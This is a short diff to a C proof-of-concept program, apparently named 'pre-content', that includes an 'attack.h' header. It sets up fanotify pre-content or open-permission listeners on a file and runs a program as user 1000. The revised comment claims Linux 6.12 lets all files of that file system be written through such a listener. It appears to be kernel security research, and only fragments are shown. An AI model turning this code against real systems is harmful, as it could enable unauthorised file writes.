@@ -6,8 +6,8 @@
  *
  *	pre-content FILE PROGRAM [ARGUMENT...]
  *
- * Listens for FILE, and runs PROGRAM as user 1000 meanwhile. If the kernel has no such events, it
- * prints "evil fanotify:EINVAL".
+ * Listens for FILE, and runs PROGRAM as user 1000 meanwhile. Linux 6.12 has no such events yet, but
+ * lets all files of that file system be written for whatever this kind of listener listens for.
  */
 #define _GNU_SOURCE
 #include "attack.h"
@@ -47,7 +47,9 @@ int main(int argc, char **argv)
 		return 2;
 	group.fd = check("fanotify", fanotify_init(FAN_CLASS_PRE_CONTENT | FAN_CLOEXEC,
 						   O_RDONLY | O_LARGEFILE));
-	check("fanotify", fanotify_mark(group.fd, FAN_MARK_ADD, FAN_PRE_ACCESS, AT_FDCWD, argv[1]));
+	if (fanotify_mark(group.fd, FAN_MARK_ADD, FAN_PRE_ACCESS, AT_FDCWD, argv[1]))
+		check("fanotify", fanotify_mark(group.fd, FAN_MARK_ADD, FAN_OPEN_PERM, AT_FDCWD,
+						argv[1]));
 
 	child = check("fork", fork());
 	if (!child) {
